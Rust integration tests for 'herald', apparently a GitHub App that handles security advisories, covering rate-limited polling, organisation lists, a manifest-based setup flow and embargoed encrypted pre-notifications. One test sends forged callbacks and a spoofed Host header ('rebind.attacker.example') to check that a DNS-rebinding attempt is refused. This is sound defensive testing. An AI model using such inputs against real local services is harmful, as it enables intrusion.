    let refused: Vec<String> = fake
        .requests()
        .iter()
        .filter(|request| request.status == 403 || request.status == 429)
        .map(|request| format!("{} {}", request.method, request.path))
        .collect();
    assert!(refused.is_empty(), "{refused:?}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// An `installation.created` payload for the repositories `names` (all `private` or
/// not), its `installation` changed by `adjust`.
fn installation_of(
    names: &[String],
    private: bool,
    adjust: impl FnOnce(&mut serde_json::Value),
) -> Vec<u8> {
    let mut payload: serde_json::Value =
        serde_json::from_slice(&fixture("installation.created.0.json")).expect("JSON");
    adjust(&mut payload["installation"]);
    payload["repositories"] = names
        .iter()
        .enumerate()
        .map(|(index, name)| {
            serde_json::json!({
                "id": 900_000 + index,
                "name": name.split('/').nth(1),
                "full_name": name,
                "private": private,
            })
        })
        .collect();
    serde_json::to_vec(&payload).expect("JSON")
}

/// The repositories whose advisory lists herald read, in the order it read them (one entry
/// per poll, answered 200 or 304).
fn advisory_polls(fake: &FakeGitHub) -> Vec<String> {
    fake.requests()
        .iter()
        .filter(|request| {
            request.method == "GET"
                && request.path.ends_with("/security-advisories")
                && (request.status == 200 || request.status == 304)
        })
        .map(|request| request.path.clone())
        .collect()
}

both_stores!(a_poll_round_cut_short_by_the_hourly_budget_resumes_where_it_stopped);
async fn a_poll_round_cut_short_by_the_hourly_budget_resumes_where_it_stopped() {
    const REPOSITORIES: usize = 1000;
    let fake = world().await;
    let names: Vec<String> = (0..REPOSITORIES)
        .map(|index| format!("Codertocat/repo-{index:04}"))
        .collect();
    for name in &names {
        fake.add_repository(name, false, INSTALLATION);
    }
    // Too little for one round: GitHub renews it in a few seconds (15: the first round must
    // end, and be looked at, before herald takes the reset for a renewal, also on a loaded
    // machine).
    fake.set_rate_limit(620, Duration::from_secs(15));
    let body = installation_of(&names, false, |_| {});
    let harness = polling_with(&fake, |_| {}, &body).await;

    let distinct = |fake: &FakeGitHub| {
        advisory_polls(fake)
            .into_iter()
            .collect::<std::collections::HashSet<_>>()
            .len()
    };
    // The first round stops short of the reserve herald leaves for its other work.
    let mut seen = 0;
    for _ in 0..100 {
        tokio::time::sleep(Duration::from_millis(300)).await;
        let now = distinct(&fake);
        if now > 0 && now == seen {
            break;
        }
        seen = now;
    }
    assert!(
        seen > 400 && seen < REPOSITORIES,
        "{seen} repositories polled on a budget of 620"
    );
    assert!(fake.rate_limit_remaining() >= 50, "herald kept a reserve");

    // GitHub renews the budget: herald goes on with the repositories it did not reach.
    fake.set_rate_limit(620, Duration::from_secs(3600));
    harness
        .until("every repository polled", async || {
            distinct(&fake) == REPOSITORIES
        })
        .await;
    // Every repository was polled once before any was polled again, give or take the
    // eight polls herald has under way at once (their requests arrive in any order).
    let polls = advisory_polls(&fake);
    let mut polled = std::collections::HashSet::new();
    let mut first_repeat = None;
    let mut last_first = 0;
    for (position, path) in polls.iter().enumerate() {
        if polled.insert(path.clone()) {
            last_first = position;
        } else if first_repeat.is_none() {
            first_repeat = Some(position);
        }
    }
    if let Some(first_repeat) = first_repeat {
        assert!(
            last_first < first_repeat + 8,
            "{} was polled again at poll {first_repeat}, before the last repository's first \
             poll at {last_first}",
            polls[first_repeat]
        );
    }
    let refused = fake
        .requests()
        .iter()
        .filter(|request| request.status == 403)
        .count();
    assert_eq!(refused, 0, "herald never ran into the limit");
    harness.stop().await;
}

const ORG_INSTALLATION: u64 = 4242;

/// A fake GitHub where the App is installed on the organisation `acme`, whose `count`
/// private repositories `acme/r-NNN` have one draft advisory each among the first three,
/// changed by `prepare`; and herald polling it. Returns the repositories' names too.
async fn organisation_world(
    count: usize,
    prepare: impl FnOnce(&FakeGitHub),
) -> (FakeGitHub, Harness, Vec<String>) {
    organisation_world_with(count, prepare, |_| {}).await
}

/// [`organisation_world`] with the installation payload's `installation` changed by
/// `adjust`.
async fn organisation_world_with(
    count: usize,
    prepare: impl FnOnce(&FakeGitHub),
    adjust: impl FnOnce(&mut serde_json::Value),
) -> (FakeGitHub, Harness, Vec<String>) {
    let public_key = String::from_utf8(fixture("app-public-key.pem")).expect("PEM text");
    let fake = FakeGitHub::start(APP_ID, &public_key).await;
    fake.add_installation(ORG_INSTALLATION, "acme");
    let names: Vec<String> = (0..count)
        .map(|index| format!("acme/r-{index:03}"))
        .collect();
    let mut template: serde_json::Value =
        serde_json::from_slice(&fixture("repository_advisory.reported.composed.json"))
            .expect("JSON");
    let template = template["repository_advisory"].take();
    for (index, name) in names.iter().enumerate() {
        fake.add_repository(name, true, ORG_INSTALLATION);
        if index < 3 {
            let mut draft = template.clone();
            draft["ghsa_id"] = format!("GHSA-orgs-{index:04}-xxxx").into();
            draft["state"] = "draft".into();
            fake.put_advisory(name, draft);
        }
    }
    let body = installation_of(&names, true, |installation| {
        installation["id"] = ORG_INSTALLATION.into();
        installation["account"]["login"] = "acme".into();
        installation["account"]["type"] = "Organization".into();
        adjust(installation);
    });
    prepare(&fake);
    let harness = polling_with(&fake, |_| {}, &body).await;
    (fake, harness, names)
}

/// GET requests for repository advisory lists: (organisation lists, repository lists).
fn list_requests(fake: &FakeGitHub) -> (usize, usize) {
    let lists: Vec<String> = fake
        .requests()
        .iter()
        .filter(|request| request.method == "GET" && request.path.ends_with("/security-advisories"))
        .map(|request| request.path.clone())
        .collect();
    let organisation = lists
        .iter()
        .filter(|path| path.starts_with("/orgs/"))
        .count();
    (organisation, lists.len() - organisation)
}

both_stores!(an_organisations_advisories_are_polled_in_one_list);
async fn an_organisations_advisories_are_polled_in_one_list() {
    let (fake, harness, names) = organisation_world(300, |_| {}).await;
    harness
        .until("the three drafts' incidents", async || {
            harness.count("SELECT COUNT(*) FROM incidents").await == 3
        })
        .await;
    let rows = harness.store.all_incidents().await.expect("incidents");
    let mut repositories: Vec<String> = rows
        .iter()
        .map(|row| row.incident.repository.to_string())
        .collect();
    repositories.sort();
    assert_eq!(repositories, names[..3], "each draft in its own repository");
    let (organisation, repository) = list_requests(&fake);
    assert!(organisation >= 1, "the organisation's list was read");
    assert_eq!(repository, 0, "no repository was polled on its own");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_organisation_list_github_refuses_falls_back_to_each_repository);
async fn an_organisation_list_github_refuses_falls_back_to_each_repository() {
    // As GitHub answers an installation token without the organisation-wide view.
    let refuse = |fake: &FakeGitHub| {
        fake.refuse_next(
            "GET",
            "/orgs/acme/security-advisories",
            403,
            "Resource not accessible by integration",
        );
    };
    let (fake, harness, names) = organisation_world(20, refuse).await;
    harness
        .until("the three drafts' incidents", async || {
            harness.count("SELECT COUNT(*) FROM incidents").await == 3
        })
        .await;
    harness
        .until("every repository polled on its own", async || {
            list_requests(&fake).1 >= names.len()
        })
        .await;
    assert_eq!(
        list_requests(&fake).0,
        1,
        "the refused list is not asked again"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_advisory_issue_whose_answer_was_lost_is_found_not_opened_twice);
async fn an_advisory_issue_whose_answer_was_lost_is_found_not_opened_twice() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    // GitHub opens the public advisory issue, but herald never hears so.
    fake.lose_next_answer("POST", &format!("/repos/{REPO}/issues"));
    github_publishes(&harness).await;

    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1, "one advisory issue: {issues:?}");
    assert_eq!(fake.count("POST", &format!("/repos/{REPO}/issues")), 1);
    // Found again and recorded, as if its answer had come.
    let timeline = timeline_details(&harness).await;
    let opened = format!("public advisory issue {REPO}#{}", issues[0].number);
    assert!(timeline.contains(&opened), "{timeline:?}");
    let tracking = &fake.issues(TRACKING_REPO)[0];
    assert!(
        tracking
            .body
            .contains(&format!("{REPO}/issues/{}", issues[0].number)),
        "the tracking issue links it: {}",
        tracking.body
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(an_installation_of_unknown_account_type_is_asked_about_once);
async fn an_installation_of_unknown_account_type_is_asked_about_once() {
    // As installed before herald recorded account types: the payload's account says none.
    let (fake, harness, _) = organisation_world_with(
        40,
        |_| {},
        |installation| {
            installation["account"]
                .as_object_mut()
                .expect("an account")
                .remove("type");
        },
    )
    .await;
    harness
        .until("the three drafts' incidents", async || {
            harness.count("SELECT COUNT(*) FROM incidents").await == 3
        })
        .await;
    // The question may come after a first round found the drafts one by one.
    let asked = || fake.count("GET", &format!("/app/installations/{ORG_INSTALLATION}"));
    harness
        .until("the account type asked about", async || asked() >= 1)
        .await;
    // The round that asked polls the organisation's list right after the answer.
    harness
        .until("then the organisation's list polled", async || {
            list_requests(&fake).0 >= 1
        })
        .await;
    assert_eq!(asked(), 1, "asked once");
    let (_, repository) = list_requests(&fake);
    assert!(
        repository <= 40,
        "at most one round one by one before it knew"
    );
    let recorded: Option<String> =
        sqlx::query_scalar("SELECT account_type FROM installations WHERE id = $1")
            .bind(ORG_INSTALLATION as i64)
            .fetch_one(harness.store.pool())
            .await
            .expect("the installation");
    assert_eq!(recorded.as_deref(), Some("Organization"));
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// `herald setup`, run in `dir` against the fake GitHub, with its output lines.
struct Setup {
    child: tokio::process::Child,
    lines: tokio::io::Lines<tokio::io::BufReader<tokio::process::ChildStdout>>,
    /// The page the browser is to open.
    page_url: String,
}

impl Setup {
    async fn start(fake: &FakeGitHub, dir: &std::path::Path) -> Setup {
        use tokio::io::AsyncBufReadExt;
        let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
            .args([
                "setup",
                "--webhook-url",
                "https://herald.example.org/webhooks",
                "--name",
                "herald-test",
                "--url",
                "https://security.example.org/herald",
                "--listen",
                "127.0.0.1:0",
            ])
            .current_dir(dir)
            .env("HERALD_GITHUB_API_URL", &fake.url)
            .env("HERALD_GITHUB_WEB_URL", &fake.url)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .expect("herald setup starts");
        let stdout = child.stdout.take().expect("stdout");
        let mut lines = tokio::io::BufReader::new(stdout).lines();
        let first = lines
            .next_line()
            .await
            .expect("output")
            .expect("a first line");
        let page_url = first
            .split_whitespace()
            .find(|word| word.starts_with("http://127.0.0.1:"))
            .unwrap_or_else(|| panic!("no page address in {first:?}"))
            .to_owned();
        Setup {
            child,
            lines,
            page_url,
        }
    }

    /// How `herald setup` ended: its exit status, the rest of its output, its errors.
    async fn finish(mut self) -> (bool, String, String) {
        use tokio::io::AsyncReadExt;
        let mut rest = Vec::new();
        while let Some(line) = self.lines.next_line().await.expect("output") {
            rest.push(line);
        }
        let mut stderr = String::new();
        if let Some(mut err) = self.child.stderr.take() {
            err.read_to_string(&mut stderr).await.expect("stderr");
        }
        let status = self.child.wait().await.expect("herald setup ends");
        (status.success(), rest.join("\n"), stderr)
    }
}

/// An attribute's value in herald's page, unescaped.
fn html_attribute(page: &str, after: &str) -> String {
    let start = page
        .find(after)
        .unwrap_or_else(|| panic!("{after} not in the page:\n{page}"))
        + after.len();
    let end = start + page[start..].find('"').expect("closing quote");
    page[start..end]
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&#x60;", "`")
        .replace("&#x3D;", "=")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Opens `url` in headless Chromium (Debian's), presses its `#register` button, and returns
/// where the browser ended and the text it shows.
async fn press_in_chromium(url: &str) -> (String, String) {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser");
    assert!(
        dir.join("node_modules/puppeteer-core").is_dir(),
        "the browser driver is not installed: install Node.js 18 or later and run \
         `npm ci --prefix tests/browser`"
    );
    assert!(
        std::path::Path::new("/usr/bin/chromium").exists()
            || std::env::var_os("CHROMIUM").is_some(),
        "no Chromium: `apt install chromium` (or set CHROMIUM to a Chromium or Chrome binary)"
    );
    let output = tokio::process::Command::new("node")
        .arg(dir.join("press.mjs"))
        .arg(url)
        .output()
        .await
        .unwrap_or_else(|error| panic!("cannot run node ({error}): install Node.js 18 or later"));
    assert!(
        output.status.success(),
        "the browser failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let ended: serde_json::Value =
        serde_json::from_slice(&output.stdout).expect("the browser's JSON");
    (
        ended["url"].as_str().unwrap_or_default().to_owned(),
        ended["text"].as_str().unwrap_or_default().to_owned(),
    )
}

/// The page's form: where it posts and the manifest it sends.
async fn setup_form(page_url: &str) -> (String, String) {
    let page = common::http_client()
        .get(page_url)
        .send()
        .await
        .expect("the page")
        .text()
        .await
        .expect("its text");
    assert!(page.contains("id=\"register\""), "a button: {page}");
    (
        html_attribute(&page, "action=\""),
        html_attribute(&page, "name=\"manifest\" value=\""),
    )
}

#[tokio::test]
async fn herald_setup_registers_the_app_through_githubs_manifest_flow() {
    let fake = world().await;
    fake.offer_app_registration(&private_key());
    let dir = tempfile::tempdir().expect("tempdir");
    let setup = Setup::start(&fake, dir.path()).await;
    let (action, _) = setup_form(&setup.page_url).await;
    assert!(
        action.starts_with(&format!("{}/settings/apps/new?state=", fake.url)),
        "{action}"
    );
    // A real browser loads the page and presses its button; the form goes to GitHub, which
    // sends the browser back to herald.
    let (ended_at, shown) = press_in_chromium(&setup.page_url).await;
    assert!(
        ended_at.starts_with(&format!("{}callback?code=", setup.page_url)),
        "{ended_at}"
    );
    assert!(
        shown.contains("herald is registered as herald-test"),
        "{shown}"
    );
    let (success, printed, errors) = setup.finish().await;
    assert!(success, "{errors}");
    assert!(
        printed.contains("Next: install the App") && printed.contains("herald doctor"),
        "{printed}"
    );
    let received = fake.manifests_received();
    assert_eq!(received.len(), 1);
    assert_eq!(received[0]["name"], "herald-test");
    assert_eq!(received[0]["url"], "https://security.example.org/herald");
    assert_eq!(
        received[0]["hook_attributes"]["url"],
        "https://herald.example.org/webhooks"
    );
    assert!(
        received[0]["default_events"]
            .as_array()
            .is_some_and(|events| events.contains(&"repository_advisory".into()))
    );

    // The files: new, readable only by their owner, no secret on the terminal.
    let settings_path = dir.path().join("herald.toml");
    let key_path = dir.path().join("herald-github-app.pem");
    for path in [&settings_path, &key_path] {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(path)
            .expect("written")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{}", path.display());
    }
    assert_eq!(
        std::fs::read_to_string(&key_path).expect("key"),
        private_key()
    );
    let settings = std::fs::read_to_string(&settings_path).expect("settings");
    assert!(
        settings.contains(&format!("github_app_id = {APP_ID}")),
        "{settings}"
    );
    assert!(
        settings.contains("webhook_secret = \"e340154128314309424b7c8e90325147d99fdafa\""),
        "{settings}"
    );
    for said in [&printed, &errors] {
        assert!(
            !said.contains("e340154128314309424b7c8e90325147d99fdafa"),
            "{said}"
        );
        assert!(!said.contains("PRIVATE KEY"), "{said}");
    }

    // They work: `herald doctor` reads them and reaches the App on GitHub.
    let doctor = tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .arg("doctor")
        .current_dir(dir.path())
        .env(
            "HERALD_DATABASE_URL",
            format!("sqlite://{}", dir.path().join("herald.db").display()),
        )
        .output()
        .await
        .expect("herald doctor runs");
    let said = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        doctor.status.success(),
        "{said}\n{}",
        String::from_utf8_lossy(&doctor.stderr)
    );
}

/// What `herald setup --webhook-url URL` said when it refused to start in `dir`.
async fn setup_refused(dir: &std::path::Path, webhook_url: &str) -> String {
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["setup", "--webhook-url", webhook_url])
        .current_dir(dir)
        .output()
        .await
        .expect("herald setup runs");
    assert!(!output.status.success(), "herald setup started");
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[tokio::test]
async fn herald_setup_refuses_a_foreign_state_a_spent_code_and_an_existing_file() {
    let fake = world().await;
    fake.offer_app_registration(&private_key());

    // An answer that does not carry this setup's state registers nothing, and does not end
    // the setup either.
    let dir = tempfile::tempdir().expect("tempdir");
    let setup = Setup::start(&fake, dir.path()).await;
    let (action, _) = setup_form(&setup.page_url).await;
    let state = action.split("state=").nth(1).expect("a state").to_owned();
    let callback = format!(
        "{}callback?code=manifest-code-1&state=not-ours",
        setup.page_url
    );
    let answer = common::http_client()
        .get(&callback)
        .send()
        .await
        .expect("answer")
        .text()
        .await
        .expect("text");
    assert!(
        answer.contains("herald setup failed") && answer.contains("not this setup&#x27;s"),
        "{answer}"
    );
    // A page of another site whose name points at 127.0.0.1 (DNS rebinding) is refused,
    // the page and its state too.
    let port = setup
        .page_url
        .trim_end_matches('/')
        .rsplit(':')
        .next()
        .expect("a port")
        .to_owned();
    for url in [
        setup.page_url.clone(),
        format!("{}callback?code=spent&state={state}", setup.page_url),
    ] {
        let answer = common::http_client()
            .get(&url)
            .header("Host", format!("rebind.attacker.example:{port}"))
            .send()
            .await
            .expect("answer");
        assert_eq!(answer.status(), 421, "{url}");
        assert!(!answer.text().await.expect("text").contains(&state));
    }
    // A code GitHub does not know (expired, or used already), with this setup's state:
    // GitHub's words, no files.
    let callback = format!("{}callback?code=spent&state={state}", setup.page_url);
    common::http_client()
        .get(&callback)
        .send()
        .await
        .expect("answer");
    let (success, _, errors) = setup.finish().await;
    assert!(!success);
    assert!(
        errors.contains("GitHub refused the code (404): Not Found"),
        "{errors}"
    );
    assert!(!dir.path().join("herald.toml").exists());
    assert!(!dir.path().join("herald-github-app.pem").exists());

    // A webhook URL GitHub could not call is refused before anything starts.
    let errors = setup_refused(dir.path(), "ftp://herald.example.org/webhooks").await;
    assert!(errors.contains("is not an http(s) URL"), "{errors}");

    // An existing settings file is never overwritten: refused before anything starts.
    std::fs::write(dir.path().join("herald.toml"), "# mine\n").expect("a settings file");
    let errors = setup_refused(dir.path(), "https://herald.example.org/webhooks").await;
    assert!(errors.contains("herald.toml exists"), "{errors}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("herald.toml")).expect("kept"),
        "# mine\n"
    );
}

/// A `prenotify:` section with three downstreams: one whose key is a file in the
/// repository, one with the key inline, one without a key.
fn prenotify_config(inline_key: &str) -> String {
    let indented: String = inline_key
        .lines()
        .map(|line| format!("        {line}\n"))
        .collect();
    format!(
        "tracking:\n  repository: Codertocat/security\nprenotify:\n  contact: security@example.org\n  recipients:\n    - address: distros@vs.openwall.example\n      name: distros\n      key_file: .github/keys/distros.asc\n      subject_tag: \"[vs]\"\n    - address: vendor@example.net\n      format: pgp-mime\n      key: |\n{indented}    - address: packager@example.com\n"
    )
}

/// The time `days` from now, as `/herald embargo` takes it.
fn days_ahead(days: i64) -> String {
    (chrono::Utc::now() + chrono::Duration::days(days))
        .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
}

/// The pre-notifications the SMTP server received, by recipient address.
/// The opaque reference to the incident that embargoed subjects carry, keyed by herald's
/// signing key (in `key_dir`, as `world_with_mail` wrote it).
fn incident_reference(key_dir: &std::path::Path) -> String {
    let secret = std::fs::read(key_dir.join("signing-key.asc")).expect("the signing key");
    let key = SigningKey::from_bytes(&secret, None).expect("a signing key");
    herald::mail::Digests::new(key.digest_secret().expect("a digest secret"))
        .incident_reference(GHSA)
}

/// Mail under embargo as every server on its way reads it: no header names the advisory,
/// its CVE, its repository or a date of the incident; the message threads with the
/// incident's others by an opaque `References`.
fn headers_name_nothing(received: &Received) {
    for (name, value) in received.header_fields() {
        if name.eq_ignore_ascii_case("Date") {
            continue;
        }
        let lower = value.to_ascii_lowercase();
        for secret in [
            "ghsa-",
            "cve-",
            "hello-world",
            "codertocat",
            "2026-",
            "2027-",
        ] {
            assert!(!lower.contains(secret), "{name}: {value} names {secret}");
        }
    }
    let references = received.header("References").expect("References");
    assert!(references.starts_with("<herald.thread."), "{references}");
}

fn prenotices(sink: &SmtpSink) -> Vec<(String, Received)> {
    sink.messages()
        .iter()
        .map(|raw| Received::parse(raw))
        .filter(|received| {
            received
                .header("Subject")
                .is_some_and(|subject| subject.contains("Embargoed security notice"))
        })
        .map(|received| (received.header("To").unwrap_or_default(), received))
        .collect()
}

/// The jobs of `kind` not done yet, due or waiting for their time.
async fn waiting_jobs(
    harness: &Harness,
    kind: herald::jobs::JobKind,
) -> Vec<herald::store::JobRecord> {
    let filter = herald::store::JobFilter {
        failed: false,
        due: false,
        kind: Some(kind.as_str()),
        limit: 10,
    };
    harness
        .store
        .jobs(&filter, chrono::Utc::now())
        .await
        .expect("jobs")
}

/// Runs `jobs` now, as an operator's `herald jobs retry` would before their time, and
/// waits for all work to finish.
async fn run_now(harness: &Harness, jobs: &[herald::store::JobRecord]) {
    let mut work = harness.store.begin_durable().await.expect("work");
    for job in jobs {
        work.control_job(job.id, herald::store::JobControl::Retry, chrono::Utc::now())
            .await
            .expect("run now");
    }
    work.commit().await.expect("commit");
    harness.wait_all_jobs().await;
}

/// An encrypted pre-notification opened by `reader` (`gpg --decrypt`, which also checks
/// herald's signature): inline OpenPGP, or an RFC 3156 `multipart/encrypted` whose second
/// part decrypts to the signed MIME entity. Its text and gpg's status lines.
fn open_prenotice(reader: &Gpg, received: &Received) -> Result<(String, String), String> {
    if !received.is_of_type("multipart/encrypted") {
        return reader.decrypt_verified(&decode_body(received));
    }
    let content_type = received.header("Content-Type").unwrap_or_default();
    assert!(
        content_type.contains("protocol=\"application/pgp-encrypted\""),
        "{content_type}"
    );
    let parts = received.parts();
    assert_eq!(parts.len(), 2, "a version part and the encrypted part");
    let version = Received::parse(&parts[0]);
    assert!(
        version.is_of_type("application/pgp-encrypted"),
        "{}",
        version.headers
    );
    assert_eq!(String::from_utf8_lossy(&version.body).trim(), "Version: 1");
    let sealed = Received::parse(&parts[1]);
    assert!(
        sealed.is_of_type("application/octet-stream"),
        "{}",
        sealed.headers
    );
    let (entity, status) = reader.decrypt_verified(&decode_body(&sealed))?;
    let entity = Received::parse(entity.as_bytes());
    assert!(entity.is_of_type("text/plain"), "{}", entity.headers);
    let text = String::from_utf8(decode_body(&entity)).expect("UTF-8 text");
    Ok((text, status))
}

both_stores!(downstreams_are_told_under_embargo_encrypted_to_their_keys_and_once_per_date);
async fn downstreams_are_told_under_embargo_encrypted_to_their_keys_and_once_per_date() {
    let fake = world().await;
    let (distros, distros_key) = Gpg::with_new_key("distros <distros@vs.openwall.example>");
    let (vendor, vendor_key) = Gpg::with_new_key("Vendor <vendor@example.net>");
    fake.put_file(REPO, ".github/keys/distros.asc", &distros_key);
    let MailWorld {
        harness,
        sink,
        gpg,
        _key_dir: _keys,
        signing_public,
    } = reported_with_mail(&fake, &prenotify_config(&vendor_key)).await;
    distros.import(&signing_public);
    vendor.import(&signing_public);
    fake.set_permission(REPO, "alice", "admin");

    // The rules, each refused with its reason, and nobody told.
    command(&harness, "p-1", "alice", "/herald prenotify").await;
    command(
        &harness,
        "p-2",
        "alice",
        &format!("/herald embargo {}", days_ahead(-1)),
    )
    .await;
    say(
        &harness,
        "issues",
        "p-3",
        &label("alice", "prenotify:approved"),
    )
    .await;
    command(
        &harness,
        "p-4",
        "alice",
        &format!("/herald embargo {}", days_ahead(20)),
    )
    .await;
    command(&harness, "p-5", "alice", "/herald prenotify").await;
    let said: Vec<String> = answers(&fake).into_iter().map(|c| c.body).collect();
    let refusals: Vec<&String> = said
        .iter()
        .filter(|body| body.contains("Pre-notification not approved"))
        .collect();
    assert_eq!(refusals.len(), 3, "{said:#?}");
    assert!(
        refusals[0].contains("no embargo date is set"),
        "{}",
        refusals[0]
    );
    assert!(refusals[1].contains("is in the past"), "{}", refusals[1]);
    assert!(
        refusals[2].contains("more than the 14 days"),
        "{}",
        refusals[2]
    );
    assert!(prenotices(&sink).is_empty(), "nobody told");

    // Within the rules: each recipient gets one notice at once (the end is under 7 days).
    let until = days_ahead(3);
    command(
        &harness,
        "p-6",
        "alice",
        &format!("/herald embargo {until}"),
    )
    .await;
    command(&harness, "p-7", "alice", "/herald prenotify").await;
    let told = prenotices(&sink);
    assert_eq!(told.len(), 3, "one notice per recipient");
    for (to, received) in &told {
        let subject = received.header("Subject").expect("subject");
        assert!(
            !subject.contains("A short summary"),
            "the subject is not encrypted and says nothing: {subject}"
        );
        // The distros list's configured tag leads its subject; nobody else's.
        let tag = if to.contains("distros@") { "[vs] " } else { "" };
        assert_eq!(
            subject,
            format!(
                "{tag}Embargoed security notice {}",
                incident_reference(_keys.path())
            ),
            "{to}"
        );
        headers_name_nothing(received);
        let opened = if to.contains("distros@") || to.contains("vendor@") {
            assert!(
                !String::from_utf8_lossy(&received.body).contains("A short summary"),
                "the advisory does not travel in clear"
            );
            let reader = if to.contains("distros@") {
                &distros
            } else {
                &vendor
            };
            // The vendor asked for PGP/MIME; distros reads inline OpenPGP.
            assert_eq!(
                received.is_of_type("multipart/encrypted"),
                to.contains("vendor@"),
                "{to}: {}",
                received.headers
            );
            let (text, status) =
                open_prenotice(reader, received).unwrap_or_else(|error| panic!("{to}: {error}"));
            assert!(status.contains("GOODSIG"), "{status}");
            text
        } else {
            assert_eq!(to, "packager@example.com");
            let body = decode_body(received);
            gpg.verify_cleartext(&body)
                .expect("signed cleartext verifies");
            String::from_utf8_lossy(&body).into_owned()
        };
        assert!(
            opened.contains("A short summary of the advisory."),
            "{opened}"
        );
        assert!(opened.contains("Planned public disclosure:"), "{opened}");
        assert!(opened.contains("security@example.org"), "{opened}");
    }
    assert!(told[0].0.contains("distros"), "{:?}", told[0].0);
    let timeline = timeline_details(&harness).await;
    let sent: Vec<&String> = timeline
        .iter()
        .filter(|detail| detail.starts_with("pre-notification sent to"))
        .collect();
    assert_eq!(sent.len(), 3, "{timeline:?}");
    assert!(
        sent.iter()
            .any(|detail| detail.contains("packager@example.com (signed, not encrypted")),
        "{sent:?}"
    );

    // Approving again, or the same date again, tells nobody twice.
    command(&harness, "p-8", "alice", "/herald prenotify").await;
    command(
        &harness,
        "p-9",
        "alice",
        &format!("/herald embargo {until}"),
    )
    .await;
    assert_eq!(prenotices(&sink).len(), 3);

    // The date moves: one short signed update each, and no second notice.
    let moved = days_ahead(5);
    command(
        &harness,
        "p-10",
        "alice",
        &format!("/herald embargo {moved}"),
    )
    .await;
    let told = prenotices(&sink);
    assert_eq!(told.len(), 6, "one update per recipient");
    for (to, received) in &told[3..] {
        let body = decode_body(received);
        let text = if to.contains("packager") {
            gpg.verify_cleartext(&body).expect("the update is signed");
            String::from_utf8_lossy(&body).into_owned()
        } else {
            let reader = if to.contains("distros@") {
                &distros
            } else {
                &vendor
            };
            open_prenotice(reader, received)
                .expect("the update opens")
                .0
        };
        assert!(text.contains("moved from"), "{text}");
        assert!(!text.contains("A short summary"), "short: {text}");
        let subject = received.header("Subject").expect("subject");
        let tag = if to.contains("distros@") { "[vs] " } else { "" };
        assert_eq!(
            subject,
            format!(
                "{tag}Embargoed security notice {}: new disclosure date",
                incident_reference(_keys.path())
            )
        );
        headers_name_nothing(received);
    }

    // A date beyond the rules makes the approval lapse and tells nobody; approved again
    // for a date within them, those told the old date get an update, not a second notice.
    command(
        &harness,
        "p-11",
        "alice",
        &format!("/herald embargo {}", days_ahead(30)),
    )
    .await;
    assert!(
        answers(&fake)
            .last()
            .is_some_and(|answer| answer.body.contains("approval lapses")),
        "{:?}",
        answers(&fake).last()
    );
    command(
        &harness,
        "p-12",
        "alice",
        &format!("/herald embargo {}", days_ahead(6)),
    )
    .await;
    assert_eq!(prenotices(&sink).len(), 6, "nobody told while not approved");
    command(&harness, "p-13", "alice", "/herald prenotify").await;
    let told = prenotices(&sink);
    assert_eq!(told.len(), 9, "one update each");
    for (to, received) in &told[6..] {
        let body = decode_body(received);
        if to.contains("packager") {
            let text = String::from_utf8_lossy(&body).into_owned();
            assert!(text.contains("moved from"), "{text}");
        }
    }

    // Each date approved has its look at the embargo's end (three); run now, only the
    // date the downstreams were last told finds them waiting, and says so once.
    let ends = waiting_jobs(&harness, herald::jobs::JobKind::EmbargoEnd).await;
    assert_eq!(ends.len(), 3, "{ends:?}");
    run_now(&harness, &ends).await;
    let waiting = escalations(&fake, "The embargo ended at");
    assert_eq!(waiting.len(), 1, "{waiting:?}");
    for words in [
        "is not published. The 3 downstream(s) told this date may now treat it as public",
        "vs.openwall.example",
        "vendor",
        "packager",
        "`/herald publish` (it needs the `disclosure:approved` label), or agree",
    ] {
        assert!(waiting[0].contains(words), "{words}: {}", waiting[0]);
    }
    let timeline = timeline_details(&harness).await;
    assert_eq!(
        timeline
            .iter()
            .filter(|detail| detail.starts_with("embargo ended at"))
            .count(),
        1,
        "{timeline:?}"
    );

    // Nothing public happened, and nothing went to any public channel.
    assert_eq!(public_writes(&fake), Vec::<String>::new());
    assert!(fake.pulls(REPO).is_empty() && fake.issues(REPO).is_empty());
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// A `push` of one commit with `message` to `repository`'s main branch, in the shape of
/// GitHub's documented `push` payload (the fields herald reads and their neighbours).
fn push_event(repository: &str, private: bool, message: &str) -> Vec<u8> {
    let sha = "6113728f27ae82c7b1a177c8d03f9e96e0adf246";
    let payload = serde_json::json!({
        "ref": "refs/heads/main",
        "before": "0000000000000000000000000000000000000000",
        "after": sha,
        "created": false,
        "deleted": false,
        "forced": false,
        "compare": format!("https://github.com/{repository}/compare/000000000000...6113728f27ae"),
        "commits": [{
            "id": sha,
            "tree_id": "4b825dc642cb6eb9a060e54bf8d69288fbee4904",
            "distinct": true,
            "message": message,
            "timestamp": "2026-12-01T10:00:00Z",
            "url": format!("https://github.com/{repository}/commit/{sha}"),
            "author": {"name": "Monalisa Octocat", "email": "mona@github.com", "username": "octocat"},
            "committer": {"name": "Monalisa Octocat", "email": "mona@github.com", "username": "octocat"},
            "added": [],
            "removed": [],
            "modified": ["src/input.rs"]
        }],
        "head_commit": null,
